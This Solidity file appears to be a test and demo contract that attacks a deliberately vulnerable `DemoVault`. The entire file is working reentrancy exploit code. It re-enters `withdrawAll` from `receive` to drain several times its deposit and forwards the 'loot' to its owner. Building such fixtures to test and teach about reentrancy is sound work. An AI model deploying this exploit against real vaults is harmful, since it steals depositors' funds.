// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.30;

interface IReentrantVault {
    function deposit() external payable;
    function withdrawAll() external;
}

/// @title ReentrancyAttacker
/// @notice Test and demo attacker of `DemoVault.withdrawAll`: deposits `msg.value`, then re-enters
/// `withdrawAll` from `receive` `reentries` times, so one call takes back `reentries + 1` times
/// the deposit. The loot stays here until the owner calls `withdraw`.
contract ReentrancyAttacker {
    address public immutable owner;
    IReentrantVault public immutable vault;
    uint256 private _reentriesLeft;

    error NotOwner(address caller);

    constructor(IReentrantVault vault_) {
        owner = msg.sender;
        vault = vault_;
    }

    /// @notice One round of the attack. Owner only.
    function attack(uint256 reentries) external payable {
        if (msg.sender != owner) revert NotOwner(msg.sender);
        _reentriesLeft = reentries;
        vault.deposit{value: msg.value}();
        vault.withdrawAll();
        _reentriesLeft = 0;
    }

    /// @notice Sends the loot to the owner. Owner only.
    function withdraw() external {
        if (msg.sender != owner) revert NotOwner(msg.sender);
        (bool ok,) = payable(owner).call{value: address(this).balance}("");
        require(ok);
    }

    receive() external payable {
        if (msg.sender == address(vault) && _reentriesLeft > 0) {
            --_reentriesLeft;
            vault.withdrawAll();
        }
    }
}
